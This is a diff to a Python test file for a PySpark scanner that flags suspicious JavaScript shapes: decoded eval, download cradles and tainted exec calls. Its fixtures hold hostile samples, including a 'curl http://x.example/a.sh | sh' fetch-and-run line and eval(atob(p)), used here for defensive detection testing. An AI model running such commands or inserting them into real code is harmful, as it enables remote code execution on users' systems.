@@ -1,6 +1,7 @@
 import pytest
 from pyspark.sql import functions as F
 
+from trawl.functions import rules
 from trawl.operators import shapes
 from trawl.operators.shapes import is_module_source, shape_findings, trigger_keywords
 
@@ -91,13 +92,13 @@ def test_a_script_is_cut_once_and_only_what_is_asked_for_is_kept(spark, monkeypa
     texts = [(1, "f('a'); g(h)"), (2, "eval(/* why */ atob(p)) // so"), (3, "x = 'curl http://x.example/a.sh | sh'"), (4, "// eval(x)")]
     made = spark.createDataFrame(texts, "sample_key long, t string").select("sample_key", F.lit("a.js").alias("path"), F.regexp_replace("t", "why", "because").alias("content"))
     assert {(r.sample_key, r.reason) for r in shape_findings(made).collect()} == {(2, DECODED_EVAL), (3, CRADLE)}
-    assert len(plans) == 1 and plans[0].count("because") <= 3
+    assert len(plans) == 1 and plans[0].count("because") <= 2
     assert sorted((r.sample_key, "".join(r.tokens)) for r in kept[0].collect()) == [(2, "eval( atob(p)) "), (3, texts[2][1])]
 
 
 def test_odd_and_repeated_files(spark):
     both = "eval(atob(p)); run('curl http://x.example/a.sh | sh')"
-    rows = [(1, "a.js", both), (1, "a.js", both), (None, "a.js", both), (2, None, both), (3, "a.js", None), (4, "a.js", ""), (5, "a.js", "/* eval(x)"), (6, "a.js", "cp.exec(//\n x/**/)"), (7, "a.txt", both)]
+    rows = [(1, "a.js", both), (1, "a.js", both), (None, "a.js", both), (2, None, both), (3, "a.js", None), (4, "a.js", ""), (5, "a.js", "/* eval(x)"), (6, "a.js", "cp.exec(//\n x/**/)"), (7, "a.txt", both), (8, "a.js", both + " " * rules.MAX_FILE_BYTES)]
     got = sorted(((r.sample_key or 0, r.reason) for r in shape_findings(spark.createDataFrame(rows, "sample_key long, path string, content string")).collect()))
     assert got == sorted([(k, r) for k in (1, 1, 0) for r in (CRADLE, DECODED_EVAL)] + [(6, TAINTED)])
 
